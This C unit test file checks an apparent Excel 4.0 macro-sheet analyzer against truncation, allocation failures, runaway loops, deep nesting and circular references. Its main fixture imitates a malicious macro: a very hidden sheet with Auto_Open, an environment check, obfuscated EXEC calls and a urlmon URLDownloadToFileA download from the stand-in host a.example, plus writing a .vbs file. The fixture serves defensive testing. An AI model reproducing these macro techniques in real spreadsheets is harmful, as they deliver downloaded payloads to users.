/* test_hostile.c - odd, cut, bomb-like macro sheets; memory that fails; macro sheets of Excel's own
 * making. */
#include "xl_dump.h"

#include "base/mem.h"

#include <stdlib.h>
#include <time.h>

/* clang-format off */
#include <setjmp.h>
#include <stdarg.h>
#include <cmocka.h>
/* clang-format on */

static const char all_sorts[] =
        "SHEET 'Macro1' macro very_hidden\nSHEET 'It''s' work visible\n"
        "NAME Auto_Open ='Macro1'!$A$1\nNAME! 'Macro1'!loc ='It''s'!$B$2:$B$4\n"
        "CELL 'Macro1'!A1 =IF(GET.WORKSPACE(13)<770,CLOSE(FALSE),)\n"
        "LAST 'Macro1'!A1 12.5\n"
        "CELL 'Macro1'!A2 =FORMULA(\"=EX\"&\"EC(\"\"calc \"\"&R[1]C[3])\",A9)\n"
        "CELL 'Macro1'!A3 =SET.NAME(\"s\",CHAR(99)&MID('It''s'!B2,2,3)&sub1(1,\"x\"))\n"
        "CELL 'Macro1'!A4 =FOR.CELL(\"c\",loc,TRUE)\n"
        "CELL 'Macro1'!A5 =IF(c=\"two\")\nCELL 'Macro1'!A6 =FORMULA.FILL(c,E1:F2)\n"
        "CELL 'Macro1'!A7 =END.IF()\nCELL 'Macro1'!A8 =NEXT()\n"
        "CELL 'Macro1'!A10 "
        "=CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJ\",0,\"http://a.example/\"&s,"
        "{\"C:\\a\",1;TRUE,#N/A},-2%)\n"
        "CELL 'Macro1'!A11 =ON.TIME(NOW(),\"later\")\nCELL 'Macro1'!A12 =DAY(TODAY())\n"
        "CELL 'Macro1'!A13 =EXEC(CHAR(100+A12)&VLOOKUP(\"two\",'It''s'!B2:C4,2,0))\n"
        "CELL 'Macro1'!A14 =HALT()\n"
        "NAME sub1 ='Macro1'!$D$1\nCELL 'Macro1'!D1 =ARGUMENT(\"n\")\n"
        "CELL 'Macro1'!D2 =RETURN(n+1)\nNAME later ='Macro1'!$G$5\n"
        "CELL 'Macro1'!G5 =FOPEN(\"C:\\x.vbs\",3)\nCELL 'Macro1'!G6 =FWRITELN(G5,\"a\nb\")\n"
        "CELL 'It''s'!B2 \"one \"\"q\"\" two\"\nCELL 'It''s'!B3 \"two\"\nCELL 'It''s'!B4 #REF!\n"
        "CELL 'It''s'!C3 7\n";

/* Every prefix ends well and within its budget. */
static void every_truncation_ends(void **state)
{
    (void)state;
    for (size_t len = 0; len < sizeof all_sorts; len++) {
        char *cut = hn_malloc(len + 1); /* so that the sanitizer sees the end */
        struct watch watch;

        assert_non_null(cut);
        (void)memcpy(cut, all_sorts, len);
        xl_dump(&watch, hn_text_of(cut, len), NULL);
        assert_int_equal(watch.status, HN_OK);
        assert_true(hn_text_find(hn_buf_text(&watch.out), HN_TEXT("\nstop "), 0) == SIZE_MAX);
        hn_buf_deinit(&watch.out);
        hn_free(cut);
    }
}

/* Whichever allocation fails, the evaluation ends, says so, and leaks nothing. */
static void every_allocation_may_fail(void **state)
{
    struct watch watch;
    uint64_t count;

    (void)state;
    hn_mem_fail_from(1u << 30);
    xl_dump(&watch, hn_text_cstr(all_sorts), NULL);
    count = (1u << 30) - hn_mem_fail_left();
    hn_mem_fail_from(0);
    assert_int_equal(watch.status, HN_OK);
    hn_buf_deinit(&watch.out);
    assert_true(count > 20);
    for (uint64_t n = 1; n <= count; n += 1 + count / 300) { /* all, but for malloc arenas */
        hn_mem_fail_from(n);
        xl_dump(&watch, hn_text_cstr(all_sorts), NULL);
        hn_mem_fail_from(0);
        assert_true(watch.status == HN_OK || watch.status == HN_NOMEM);
        hn_buf_deinit(&watch.out);
    }
}

static bool says(const struct watch *watch, const char *text)
{
    return hn_text_find(hn_buf_text(&watch->out), hn_text_cstr(text), 0) != SIZE_MAX;
}

/* Each limit stops, and what was learned before is told. */
static void limits_hold(void **state)
{
    static const char endless[] = "SHEET 'M' macro visible\nNAME Auto_Open ='M'!$A$1\n"
                                  "CELL 'M'!A1 =EXEC(\"first\")\nCELL 'M'!A2 =GOTO(A2)\n";
    static const char growing[] =
            "SHEET 'M' macro visible\nNAME Auto_Open ='M'!$A$1\n"
            "CELL 'M'!A1 =EXEC(\"first\")\nCELL 'M'!A2 =SET.NAME(\"s\",\"0123456789\")\n"
            "CELL 'M'!A3 =SET.NAME(\"s\",s&SUBSTITUTE(s,\"1\",\"22\"))\nCELL 'M'!A4 =GOTO(A3)\n";
    static const char calling[] = "SHEET 'M' macro visible\nNAME Auto_Open ='M'!$A$1\n"
                                  "CELL 'M'!A1 =EXEC(\"first\")\nCELL 'M'!A2 =A1()\n";
    struct script_limits limits = script_limits_default;
    struct watch watch;

    (void)state;
    for (uint64_t steps = 1; steps < 3000; steps += 37) {
        limits.steps_max = steps;
        xl_dump(&watch, hn_text_cstr(all_sorts), &limits);
        assert_true(watch.steps <= steps);
        hn_buf_deinit(&watch.out);
    }
    xl_dump(&watch, hn_text_cstr(endless), NULL);
    assert_true(says(&watch, "CommandLine=first\n"));
    assert_true(says(&watch, "note limit a way without an end was left\n"));
    hn_buf_deinit(&watch.out);
    limits = script_limits_default;
    limits.bytes_max = 2u << 20;
    limits.text_bytes_max = 1u << 20;
    xl_dump(&watch, hn_text_cstr(growing), &limits);
    assert_true(says(&watch, "CommandLine=first\n"));
    assert_true(says(&watch, "stop bytes\n"));
    hn_buf_deinit(&watch.out);
    xl_dump(&watch, hn_text_cstr(calling), NULL);
    assert_true(says(&watch, "CommandLine=first\n"));
    assert_true(says(&watch, "note limit macros within macros\n"));
    hn_buf_deinit(&watch.out);
}

static void repeat(struct hn_buf *out, const char *piece, unsigned count)
{
    for (unsigned i = 0; i < count; i++)
        hn_buf_add_cstr(out, piece);
}

/* Nesting without end is cut; a chain without end is none; and the cells around are carried out. */
static void nesting_is_limited(void **state)
{
    static const char *const pieces[][2] = { { "(", ")" }, { "-", "" }, { "LEN(", ")" },
        { "1&", "" }, { "1^", "" }, { "{", "}" }, { "IF(1,", ")" }, { "", "%" }, { "A1:", "A1" },
        { "EVALUATE(\"", "\")" } };

    (void)state;
    for (size_t i = 0; i < HN_COUNT_OF(pieces); i++) {
        struct hn_buf text = { 0 };
        struct watch watch;

        hn_buf_add_lit(&text, "SHEET 'M' macro visible\nNAME Auto_Open ='M'!$A$1\n"
                              "CELL 'M'!A1 =EXEC(\"first\")\nCELL 'M'!A2 =");
        repeat(&text, pieces[i][0], 20000);
        hn_buf_add_lit(&text, "1");
        repeat(&text, pieces[i][1], 20000);
        hn_buf_add_lit(&text, "\nCELL 'M'!A3 =EXEC(\"last\")\nCELL 'M'!A4 =HALT()\n");
        xl_dump(&watch, hn_buf_text(&text), NULL);
        assert_int_equal(watch.status, HN_OK);
        assert_true(says(&watch, "CommandLine=first\n"));
        assert_true(says(&watch, "CommandLine=last\n"));
        hn_buf_deinit(&watch.out);
        hn_buf_deinit(&text);
    }
}

/* Formulas that are worth each other, and cells that refer in a circle or in a long chain. */
static void circles_end(void **state)
{
    struct hn_buf text = { 0 };
    struct watch watch;

    (void)state;
    hn_buf_add_lit(&text, "SHEET 'M' macro visible\nSHEET 'W' work visible\n"
                          "NAME Auto_Open ='M'!$A$1\nNAME x =y\nNAME y =x\n"
                          "CELL 'M'!A1 =EXEC(\"a\"&'W'!A1&x)\nCELL 'M'!A2 =EXEC(\"b\"&'W'!C1)\n"
                          "CELL 'M'!A3 =EXEC(\"last\")\nCELL 'M'!A4 =HALT()\n"
                          "CELL 'W'!A1 =B1\nCELL 'W'!B1 =A1\n");
    for (unsigned i = 1; i < 5000; i++)
        hn_buf_addf(&text, "CELL 'W'!C%u =C%u&\"x\"\n", i, i + 1);
    xl_dump(&watch, hn_buf_text(&text), NULL);
    assert_int_equal(watch.status, HN_OK);
    assert_true(says(&watch, "CommandLine=last\n"));
    hn_buf_deinit(&watch.out);
    hn_buf_deinit(&text);
}

/* Twenty questions in a row have a million ways; each is asked, but not each way is gone. */
static void questions_in_a_row_are_linear(void **state)
{
    struct hn_buf text = { 0 };
    struct watch watch;

    (void)state;
    hn_buf_add_lit(&text, "SHEET 'M' macro visible\nNAME Auto_Open ='M'!$A$1\n");
    for (unsigned i = 1; i <= 40; i += 2) {
        hn_buf_addf(&text,
                "CELL 'M'!A%u =IF(GET.WORKSPACE(%u),EXEC(\"yes %u\"),EXEC(\"no %u\"))\n"
                "CELL 'M'!A%u =IF(GET.WINDOW(%u),,GOTO(A%u))\n",
                i, i, i, i, i + 1, i, i + 2);
    }
    hn_buf_add_lit(&text, "CELL 'M'!A41 =EXEC(\"last\")\nCELL 'M'!A42 =HALT()\n");
    xl_dump(&watch, hn_buf_text(&text), NULL);
    for (unsigned i = 1; i <= 40; i += 2) {
        char line[40];

        (void)snprintf(line, sizeof line, "CommandLine=yes %u\n", i);
        assert_true(says(&watch, line));
        (void)snprintf(line, sizeof line, "CommandLine=no %u\n", i);
        assert_true(says(&watch, line));
    }
    assert_true(says(&watch, "CommandLine=last\n"));
    assert_true(watch.steps < 200000);
    hn_buf_deinit(&watch.out);
    hn_buf_deinit(&text);
}

/* A text made of 20,000 cells, and as many rows in the wrong order, take work in proportion. */
static void many_cells_are_linear(void **state)
{
    struct hn_buf text = { 0 };
    struct watch watch;
    clock_t start = clock();

    (void)state;
    hn_buf_add_lit(&text, "SHEET 'M' macro visible\nNAME Auto_Open ='M'!$A$1\n"
                          "CELL 'M'!A1 =SET.NAME(\"s\",\"\")\n");
    for (unsigned i = 20000; i > 0; i--)
        hn_buf_addf(&text, "CELL 'M'!A%u =SET.NAME(\"s\",s&CHAR(%u))\n", i + 1, 65 + i % 26);
    hn_buf_add_lit(&text, "CELL 'M'!A20002 =EXEC(LEN(s)&LEFT(s,3))\nCELL 'M'!A20003 =HALT()\n");
    xl_dump(&watch, hn_buf_text(&text), NULL);
    assert_true(says(&watch, "CommandLine=20000BCD\n"));
    assert_true(clock() - start < 5 * CLOCKS_PER_SEC);
    hn_buf_deinit(&watch.out);
    hn_buf_deinit(&text);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(every_truncation_ends),
        cmocka_unit_test(every_allocation_may_fail),
        cmocka_unit_test(limits_hold),
        cmocka_unit_test(nesting_is_limited),
        cmocka_unit_test(circles_end),
        cmocka_unit_test(questions_in_a_row_are_linear),
        cmocka_unit_test(many_cells_are_linear),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
